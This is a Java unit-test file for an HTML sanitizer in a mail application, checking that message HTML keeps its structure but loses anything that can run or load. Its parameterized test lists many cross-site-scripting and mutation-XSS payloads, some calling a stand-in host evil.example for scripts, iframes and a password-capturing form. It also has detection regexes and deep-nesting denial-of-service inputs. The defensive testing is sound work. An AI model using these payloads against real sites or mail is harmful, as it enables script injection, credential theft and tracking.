package org.postern.sample.mail;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Nothing in a message may run or load. */
class SafeHtmlTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<img src=x onerror=alert(1)>",
                "<img src='https://evil.example/pixel.gif' alt='a'>",
                "<svg onload=alert(1)><script>alert(1)</script></svg>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<a href='javascript:alert(1)'>x</a>",
                "<a href=' java\nscript:alert(1)'>x</a>",
                "<a href='&#106;avascript:alert(1)'>x</a>",
                "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
                "<a href='vbscript:x'>x</a>",
                "<a href='/?_task=logout'>x</a>",
                "<a href='//evil.example'>x</a>",
                "<iframe src='https://evil.example'></iframe>",
                "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<object data='https://evil.example'></object><embed src='https://evil.example'>",
                "<form action='https://evil.example'><input name=pass><button>Go</button></form>",
                "<meta http-equiv=refresh content='0;url=https://evil.example'>",
                "<base href='https://evil.example/'>",
                "<link rel=stylesheet href='https://evil.example/x.css'>",
                "<style>@import url(https://evil.example/x.css);</style>",
                "<div style='position:fixed;background:url(https://evil.example/x)'>x</div>",
                "<table background='https://evil.example/x.gif'><tr><td>x</td></tr></table>",
                "<body onload=alert(1)>",
                "<video src='https://evil.example/x' autoplay onplay=alert(1)></video><audio src=x></audio>",
                "<picture><source srcset='https://evil.example/x'></picture>",
                "<template><script>alert(1)</script></template>",
                "<textarea><script>alert(1)</script></textarea>",
                "<div id='support' class='support'>forged</div>",
                "<a id=logout name=logout href='https://evil.example'>x</a>",
                "</div></article></main><h1>outside</h1>",
                "<plaintext><script>alert(1)</script>",
                "<!--><img src=x onerror=alert(1)>-->",
                "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
                "<p onclick=alert(1) onmouseover='alert(1)'>x</p>",
                "\u0000<scr\u0000ipt>alert(1)</script>"
            })
    void of_whatCouldRunOrLoad_leavesNothingOfIt(String hostile) {
        String frame = SafeHtml.of(hostile, SafeHtml.Pictures.NONE).html().toLowerCase(Locale.ROOT);
        String page = SafeHtml.plain(hostile).html().toLowerCase(Locale.ROOT);

        for (String safe : List.of(frame, page)) {
            assertThat(safe)
                    .doesNotContainPattern("<(?:script|style|svg|math|iframe|object|embed|form|input|button|meta|base)")
                    .doesNotContainPattern("<(?:link|video|audio|source|template|textarea|article|main|body)")
                    .doesNotContainPattern("<[^>]*\\s(?:on\\w+|src|srcset|background|id|class|name|action)\\s*=")
                    .doesNotContainPattern("url\\(|expression|@import|javascript:")
                    .doesNotContainPattern("href=\"(?!https?://|mailto:)");
        }
        assertThat(page).doesNotContainPattern("<[^>]*\\sstyle\\s*=");
    }

    @Test
    void of_link_leadsOutWithoutTellingWhereFrom() {
        String html = "<a href='https://shop.example/a?b=1&c=2' target=_self rel=opener>Order</a>";

        assertThat(SafeHtml.plain(html).html())
                .contains("href=\"https://shop.example/a?b&#61;1&amp;c&#61;2\"")
                .containsPattern("rel=\"(?:(?:noreferrer|noopener|nofollow) ?){3}\"")
                .contains("target=\"_blank\"")
                .doesNotContain("_self");
    }

    @Test
    void of_text_keepsItsStructure() {
        SafeHtml safe = SafeHtml.plain("<h1>Hi</h1><p>an <b>offer</b></p><table><tr><td colspan=2>x</td></tr></table>");

        assertThat(safe.html()).contains("<h1>Hi</h1>", "<b>offer</b>", "<td colspan=\"2\">x</td>");
        assertThat(safe.text()).isEqualTo("Hi\nan offer\n\nx");
        assertThat(safe.hidesPictures()).isFalse();
    }

    @Test
    void of_pictureFromElsewhere_leavesItsDescriptionAndSaysSo() {
        SafeHtml safe =
                SafeHtml.of("<img src='https://shop.example/anvil.jpg' alt='<b>An anvil</b>'>", SafeHtml.Pictures.NONE);

        assertThat(safe.html()).contains("alt=\"&lt;b&gt;An anvil&lt;/b&gt;\"").doesNotContain("shop.example");
        assertThat(safe.hidesPictures()).isTrue();
    }

    @Test
    void of_picture_isLoadedFromWhereItIsAllowedToBe() {
        SafeHtml safe = SafeHtml.of(
                "<img src='cid:a@b'><img src='https://shop.example/x.png'><img src='javascript:alert(1)'>",
                source -> source.equals("cid:a@b") ? Optional.of("/?_part=2") : Optional.empty());

        assertThat(safe.html()).contains("src=\"/?_part&#61;2\"").doesNotContain("shop.example", "javascript");
        assertThat(safe.hidesPictures()).isTrue();
    }

    @Test
    void of_style_keepsWhatIsHarmless() {
        assertThat(SafeHtml.of("<p style='color:red;position:fixed;top:0'>x</p>", SafeHtml.Pictures.NONE)
                        .html())
                .contains("color:red")
                .doesNotContain("position", "fixed");
    }

    @Test
    void of_thousandsOfNestedElements_showsWhatStandsBeforeThem() {
        SafeHtml safe = SafeHtml.of(
                "<p>before</p>" + "<div>".repeat(50_000) + "deep" + "<b>".repeat(50_000), SafeHtml.Pictures.NONE);

        assertThat(safe.html()).contains("before").hasSizeLessThan(10_000);
    }

    /** The sanitizer goes as deep as the brackets of a style do. */
    @Test
    void of_bracketsInBrackets_areShownWithoutTheirStyle() {
        String deep = "<p style=\"a:" + "b(a:".repeat(100_000) + "\">still <b>here</b></p>";

        assertThat(SafeHtml.of(deep, SafeHtml.Pictures.NONE).html()).contains("still <b>here</b>");
        assertThat(SafeHtml.plain(deep).html()).contains("still <b>here</b>");
    }
}
